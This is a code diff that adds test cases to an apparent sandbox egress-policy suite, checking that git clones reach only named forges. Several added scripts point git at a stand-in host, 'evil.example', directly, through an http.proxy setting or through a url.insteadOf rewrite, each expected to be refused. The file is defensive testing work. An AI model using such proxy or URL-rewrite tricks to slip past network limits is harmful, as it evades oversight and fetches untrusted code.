@@ -107,6 +107,20 @@ const CASES: readonly ServiceCase[] = [
     script: `HOME=$PWD/h ${PIP}`,
     refused: "pypi.org",
   },
+  { name: "git reaches a forge that its words name", needs: "git", script: "timeout 5 git clone -q https://github.com/me/x there" },
+  { name: "no other host", needs: "git", script: "timeout 5 git clone -q https://evil.example/x there", refused: "evil.example" },
+  {
+    name: "nor a forge through another host",
+    needs: "git",
+    script: "timeout 5 git -c http.proxy=http://evil.example:3128 clone -q https://github.com/me/x there",
+    refused: "evil.example",
+  },
+  {
+    name: "nor under a forge's name",
+    needs: "git",
+    script: "timeout 5 git -c url.https://evil.example/.insteadOf=https://github.com/ clone -q https://github.com/me/x there",
+    refused: "evil.example",
+  },
   { name: "git reaches a forge that a remote names", needs: "git", before: ORIGIN, script: FETCH },
   {
     name: "not another one that an agent adds",
